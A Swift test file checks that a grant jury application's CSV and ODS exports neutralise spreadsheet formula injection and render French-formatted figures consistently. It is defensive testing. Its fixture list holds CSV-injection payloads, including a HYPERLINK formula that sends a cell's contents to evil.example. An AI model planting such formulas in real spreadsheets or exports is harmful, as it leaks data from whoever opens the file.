import CSV
import Foundation
#if canImport(FoundationXML)
import FoundationXML
#endif
import JuryCore
import JuryDemo
@testable import JuryExport
import XCTest
import ZIPFoundation

/// Exports that cannot attack a spreadsheet, and that read as a ministry expects: applicants'
/// names a spreadsheet would run as formulas stay text, figures stay figures with their formats,
/// and every format shows the same figure for the same value.
final class ExportSafetyTests: XCTestCase {
    /// Names applicants could give their dossier (OWASP « CSV injection »).
    static let hostileNames = [
        #"=HYPERLINK("http://evil.example/?leak="&A1;"Voir le dossier")"#, "=1+1", "+33 6 12 34 56 78", "-2+3", "@SUM(1+1)",
        "\t=1+1 après une tabulation", "\r=1+1 après un retour chariot", "\u{202E}=1+1 derrière un contrôle bidi",
    ]

    private static let demo = DemoCampaign.bundled()
    private static let now = Instant("2023-10-17T11:00:00+02:00")!

    /// The demo's deliberation, its first dossiers renamed with the hostile names; the chair's view.
    static func hostileTables() -> ReportTables {
        var dossiers = demo.dossiers
        for (index, name) in hostileNames.enumerated() { dossiers[index].name = name }
        var sheets: [String: [Int: ScoreSheet]] = [:]
        for sheet in demo.sheets { sheets[sheet.reviewer, default: [:]][sheet.dossier] = sheet }
        let chair = demo.jury.members.first { $0.role == .chair }!
        let report = DeliberationReport(campaign: demo.campaign, jury: demo.jury, dossiers: dossiers, sheets: sheets, viewer: chair,
                                        allocation: AllocationState(drawSeed: 11), resamples: 200)
        return ReportTables(report, language: .fr)
    }

    private func csvRows(_ data: Data) throws -> [[String: String]] {
        let reader = try CSVReader(string: String(decoding: data.dropFirst(3), as: UTF8.self), hasHeaderRow: true, delimiter: ";")
        let headers = try XCTUnwrap(reader.headerRow)
        var rows: [[String: String]] = []
        while let row = reader.next() { rows.append(Dictionary(zip(headers, row), uniquingKeysWith: { a, _ in a })) }
        return rows.filter { !$0.values.allSatisfy(\.isEmpty) }
    }

    // MARK: CSV

    func testCSVKeepsFormulasAsTextAndFiguresAsFigures() throws {
        let tables = Self.hostileTables()
        let rows = try csvRows(try CSVExport.make(tables.all))
        for name in Self.hostileNames {
            let clean = Sanitizer.text(name)
            XCTAssertEqual(rows.filter { $0["PTCE"] == "'" + clean }.count, 1, "« \(clean) » is kept as text, an apostrophe in front")
        }
        XCTAssertFalse(rows.contains { row in row.values.contains { SafeOutput.startsLikeAFormula($0) && !SafeOutput.isPlainNumber($0) } },
                       "no cell a spreadsheet would run")
        // Figures as a French spreadsheet reads them: no apostrophe, decimal comma, per cent, euros.
        let means = rows.compactMap { $0["Moy."] }.filter { !$0.isEmpty }
        XCTAssertFalse(means.isEmpty)
        XCTAssertTrue(means.allSatisfy { SafeOutput.isPlainNumber($0) && $0.contains(",") }, "\(means.prefix(3))")
        let probability = try XCTUnwrap(rows.compactMap { $0["Probabilité d’être financé"] }.first { !$0.isEmpty })
        XCTAssertTrue(probability.hasSuffix("\u{A0}%") && SafeOutput.isPlainNumber(probability), probability)
        // A negative figure stays a figure; the same characters as text would not.
        XCTAssertEqual(SafeOutput.csvCell("-0,53", isNumber: true), "-0,53")
        XCTAssertEqual(SafeOutput.csvCell("-2+3", isNumber: false), "'-2+3")
        XCTAssertEqual(SafeOutput.csvCell("Pôle -2+3", isNumber: false), "Pôle -2+3")
        XCTAssertTrue(rows.contains { $0["Proposition"] == "" }, "an empty cell, not an empty text")
    }

    /// « 4,575 » is 4.57499999… in binary: a person, and LibreOffice, round it to 4,58.
    func testAFigureIsRoundedAsAPersonRoundsIt() {
        XCTAssertEqual(Decimal2.format(4.575, language: .fr), "4,58")
        XCTAssertEqual(Decimal2.format(4.575, language: .en), "4.58")
        XCTAssertEqual(Decimal2.format(-4.575), "-4,58", "half away from zero")
        XCTAssertEqual(Decimal2.format(0.125), "0,13")
        XCTAssertEqual(Decimal2.format(99.995), "100,00")
        XCTAssertEqual(Decimal2.format(-0.001), "0,00", "no « -0,00 »")
        XCTAssertEqual(Decimal2.format(1e-7), "0,00")
        XCTAssertEqual(Decimal2.format(12), "12,00")
        XCTAssertEqual(Labels.percent(0.0249999999999999, .fr), "2\u{A0}%")
        XCTAssertEqual(Labels.percent(0.145, .fr), "15\u{A0}%", "14,5 % as written, not 14,499… after × 100")
        XCTAssertEqual(Labels.percent(1, .fr), "100\u{A0}%")
    }

    // MARK: ODS

    func testODSGivesEveryFigureAFormatAndLeavesEmptyCellsEmpty() throws {
        let url = scratch().appending(path: "deliberation.ods")
        try ODSExport.make(Self.hostileTables(), at: Self.now.date).write(to: url)
        let content = try OpenDocument.content(of: url)
        let sheets = try OpenDocument.cells(content)
        let all = try XCTUnwrap(sheets["Tous les dossiers"])
        let headers = all[0].map(\.text)
        func column(_ name: String) throws -> [OpenDocument.Cell] {
            let index = try XCTUnwrap(headers.firstIndex(of: name), name)
            return all.dropFirst().map { $0.count > index ? $0[index] : OpenDocument.Cell() }
        }
        for cell in try column("Moy.") where cell.type != nil {
            XCTAssertEqual(cell.type, "float")
            XCTAssertEqual(cell.style, "decimal")
        }
        XCTAssertTrue(try column("Probabilité d’être financé").contains { $0.type == "percentage" && $0.style == "percent" })
        XCTAssertTrue(try column("Proposition").contains { $0.type == nil && $0.text.isEmpty }, "empty, not an empty string")
        XCTAssertFalse(all.joined().contains { $0.type == "string" && $0.text.isEmpty }, "no empty text cell anywhere")
        for name in Self.hostileNames {
            let cell = try column("PTCE").first { $0.text == Sanitizer.text(name) }
            XCTAssertEqual(cell?.type, "string", "« \(name) » is a text cell: a spreadsheet shows it, never runs it")
            XCTAssertNil(cell?.formula)
        }
        XCTAssertTrue(content.contains(#"<number:number-style style:name="N2" number:language="fr" number:country="FR"><number:number number:decimal-places="2" number:min-decimal-places="2""#))
        XCTAssertTrue(content.contains(#"<number:percentage-style style:name="NP""#))
        XCTAssertTrue(content.contains(#"<number:currency-symbol number:language="fr" number:country="FR">€</number:currency-symbol>"#))
    }

    // MARK: In LibreOffice, as a French ministry opens them

    /// The `;` CSV opened with the French import options, formulas evaluated: every hostile name
    /// comes out as the text it is, none as a formula or its result, and the figures as numbers.
    func testLibreOfficeReadsTheHostileNamesOfTheCSVAsText() throws {
        _ = try LibreOffice.executable()
        let directory = scratch()
        let csv = directory.appending(path: "deliberation.csv")
        try CSVExport.make(Self.hostileTables().all).write(to: csv)
        let ods = try LibreOffice.convert(csv, to: "ods", importFilter: LibreOffice.frenchCSVImport, in: directory)
        let rows = try XCTUnwrap(try OpenDocument.cells(try OpenDocument.content(of: ods)).values.first)
        let headers = rows[0].map(\.text)
        let name = try XCTUnwrap(headers.firstIndex(of: "PTCE")), mean = try XCTUnwrap(headers.firstIndex(of: "Moy."))
        let probability = try XCTUnwrap(headers.firstIndex(of: "Probabilité d’être financé"))
        for hostile in Self.hostileNames {
            let cell = rows.first { $0.count > name && $0[name].text == "'" + Sanitizer.text(hostile) }?[name]
            XCTAssertNotNil(cell, "« \(hostile) » comes out as text")
            XCTAssertEqual(cell?.type, "string")
            XCTAssertNil(cell?.formula, "« \(hostile) » is not a formula")
        }
        XCTAssertFalse(rows.joined().contains { $0.formula != nil }, "no formula anywhere")
        let scored = rows.dropFirst().filter { $0.count > mean && !$0[mean].text.isEmpty }
        XCTAssertFalse(scored.isEmpty)
        XCTAssertTrue(scored.allSatisfy { $0[mean].type == "float" }, "means are numbers")
        XCTAssertTrue(scored.contains { $0.count > probability && $0[probability].type == "percentage" }, "probabilities are percentages")
    }

    /// The same values written by the ODS export and shown by LibreOffice read as the CSV writes them.
    func testLibreOfficeShowsTheFiguresOfTheODSAsTheCSVWritesThem() throws {
        _ = try LibreOffice.executable()
        let directory = scratch()
        let values: [(Double, NumberFormat)] = [(4.575, .decimal), (14.125, .decimal), (-0.535, .decimal), (0.0249999999999999, .percent),
                                                (1, .percent), (100_000, .euros), (12, .integer)]
        let cells = values.map { value, format in Cell.figure(value, format, .fr) }
        let ods = directory.appending(path: "chiffres.ods")
        try ODSExport.make([ExportTable(name: "Chiffres", headers: values.map { "\($0.0)" }, rows: [cells])], title: "Chiffres",
                           language: .fr, at: Self.now.date).write(to: ods)
        let shown = try String(contentsOf: LibreOffice.convert(ods, to: LibreOffice.frenchCSVExport, in: directory), encoding: .utf8)
        let line = try XCTUnwrap(shown.split(whereSeparator: \.isNewline).dropFirst().first).split(separator: ";").map(String.init)
        // The same figures; LibreOffice writes a plain space where the export writes a no-break one.
        func spaced(_ text: String) -> String { text.replacingOccurrences(of: "\u{A0}", with: " ") }
        XCTAssertEqual(line.map(spaced), cells.map(\.shown).map(spaced), "LibreOffice shows what the CSV and the screens show")
        XCTAssertEqual(cells.map(\.shown), ["4,58", "14,13", "-0,54", "2\u{A0}%", "100\u{A0}%", "100\u{A0}000\u{A0}€", "12"])
    }

    /// A mean of 4,575 shows 4,58 and the spreadsheet holds 4,58: a sum or a sort made there works on
    /// the figures the ministry reads; LibreOffice and the CSV show the same figure.
    func testTheODSHoldsTheFiguresAsShown() throws {
        let directory = scratch()
        let cells: [Cell] = [.figure(4.575, .decimal, .fr), .figure(4.574999999999, .decimal, .fr), .figure(0.145, .percent, .fr),
                             .figure(100_000, .euros, .fr)]
        let ods = directory.appending(path: "arrondis.ods")
        try ODSExport.make([ExportTable(name: "Arrondis", headers: ["a", "b", "c", "d"], rows: [cells])], title: "Arrondis",
                           language: .fr, at: Self.now.date).write(to: ods)
        let written = try XCTUnwrap(try OpenDocument.cells(try OpenDocument.content(of: ods))["Arrondis"]?.last)
        XCTAssertEqual(written.map(\.text), ["4,58", "4,57", "15\u{A0}%", "100\u{A0}000\u{A0}€"])
        XCTAssertEqual(written.compactMap(\.value).compactMap(Double.init), [4.58, 4.57, 0.15, 100_000], "the values shown, not 4.575")
        _ = try LibreOffice.executable()
        let opened = try LibreOffice.convert(ods, to: LibreOffice.frenchCSVExport, in: directory)
        let line = try String(contentsOf: opened, encoding: .utf8).split(whereSeparator: \.isNewline).dropFirst().first
        XCTAssertEqual(line?.split(separator: ";").first, "4,58")
        let csv = try CSVExport.make(ExportTable(name: "Arrondis", headers: ["a"], rows: [[cells[0]]]))
        XCTAssertEqual(try csvRows(csv).first?["a"], "4,58", "the CSV writes the same figure")
    }

    /// The laureates' table reads from the best ranked down, whatever order the chair chose them in,
    /// and its amounts are numbers: in the CSV a whole number of euros, which LibreOffice sums.
    func testTheLaureatesAreInRankOrderWithAmountsAsNumbers() throws {
        let tables = Self.hostileTables()
        let ranked = tables.report.rows.prefix(15).map(\.number)
        var allocation = AllocationState(drawSeed: 11)
        allocation.laureates = ranked.reversed()
        let report = tables.report.with(allocation: allocation)
        let laureates = ReportTables(report, language: .fr).laureates
        XCTAssertEqual(laureates.rows.map { $0[1].shown }, ranked.map(String.init), "rank order, not the order chosen")
        let ranks = laureates.rows.compactMap { Int($0[5].shown) }
        XCTAssertEqual(ranks, ranks.sorted())

        let csv = try CSVExport.make(laureates)
        let rows = try csvRows(csv)
        XCTAssertEqual(rows.map { $0["Montant (€)"] }, Array(repeating: "100000", count: 15))
        XCTAssertEqual(rows.map { $0["N°"] ?? "" }, ranked.map(String.init))
        _ = try LibreOffice.executable()
        let directory = scratch()
        let file = directory.appending(path: "laureats.csv")
        try csv.write(to: file)
        let ods = try LibreOffice.convert(file, to: "ods", importFilter: LibreOffice.frenchCSVImport, in: directory)
        let sheet = try XCTUnwrap(try OpenDocument.cells(try OpenDocument.content(of: ods)).values.first)
        let amount = try XCTUnwrap(sheet[0].map(\.text).firstIndex(of: "Montant (€)"))
        let amounts = sheet.dropFirst().filter { $0.count > amount && !$0[amount].text.isEmpty }.map { $0[amount] }
        XCTAssertEqual(amounts.count, 15)
        XCTAssertTrue(amounts.allSatisfy { $0.type == "float" && $0.value == "100000" }, "\(amounts.prefix(2))")
    }

    private func scratch() -> URL {
        let url = FileManager.default.temporaryDirectory.appending(path: "export-safety-\(UUID().uuidString)")
        try! FileManager.default.createDirectory(at: url, withIntermediateDirectories: true)
        addTeardownBlock { try? FileManager.default.removeItem(at: url) }
        return url
    }
}

/// The cells of an OpenDocument spreadsheet with what a spreadsheet makes of them.
enum OpenDocument {
    struct Cell {
        var type: String?
        var style: String?
        var formula: String?
        var text = ""
        /// `office:value`: the number a spreadsheet computes with.
        var value: String?
    }

    static func content(of url: URL) throws -> String {
        let archive = try Archive(url: url, accessMode: .read)
        guard let entry = archive["content.xml"] else { throw CocoaError(.fileReadCorruptFile) }
        var data = Data()
        _ = try archive.extract(entry) { data.append($0) }
        return String(decoding: data, as: UTF8.self)
    }

    /// Sheet name → rows → cells (repeated cells written out, up to 64).
    static func cells(_ content: String) throws -> [String: [[Cell]]] {
        let reader = Reader()
        let parser = XMLParser(data: Data(content.utf8))
        parser.delegate = reader
        guard parser.parse() else { throw parser.parserError ?? CocoaError(.fileReadCorruptFile) }
        return reader.sheets
    }

    private final class Reader: NSObject, XMLParserDelegate {
        var sheets: [String: [[Cell]]] = [:]
        private var sheet: String?
        private var row: [Cell]?
        private var cell: Cell?
        private var repeats = 1
        private var paragraphs: [String] = []
        private var paragraph: String?

        func parser(_ parser: XMLParser, didStartElement name: String, namespaceURI: String?, qualifiedName: String?,
                    attributes: [String: String] = [:]) {
            switch name {
            case "table:table": sheet = attributes["table:name"]; sheets[sheet!] = []
            case "table:table-row": row = []
            case "table:table-cell", "table:covered-table-cell":
                cell = Cell(type: attributes["office:value-type"], style: attributes["table:style-name"], formula: attributes["table:formula"],
                            value: attributes["office:value"])
                repeats = min(Int(attributes["table:number-columns-repeated"] ?? "1") ?? 1, 64)
                paragraphs = []
            case "text:p": paragraph = ""
            case "text:s": paragraph? += String(repeating: " ", count: min(Int(attributes["text:c"] ?? "1") ?? 1, 64))
            default: break
            }
        }

        func parser(_ parser: XMLParser, foundCharacters string: String) { paragraph? += string }

        func parser(_ parser: XMLParser, didEndElement name: String, namespaceURI: String?, qualifiedName: String?) {
            switch name {
            case "text:p": if let paragraph { paragraphs.append(paragraph) }; paragraph = nil
            case "table:table-cell", "table:covered-table-cell":
                if var cell {
                    cell.text = paragraphs.joined(separator: "\n")
                    row?.append(contentsOf: Array(repeating: cell, count: repeats))
                }
                cell = nil
            case "table:table-row": if let sheet, let row { sheets[sheet]?.append(row) }; row = nil
            default: break
            }
        }
    }
}
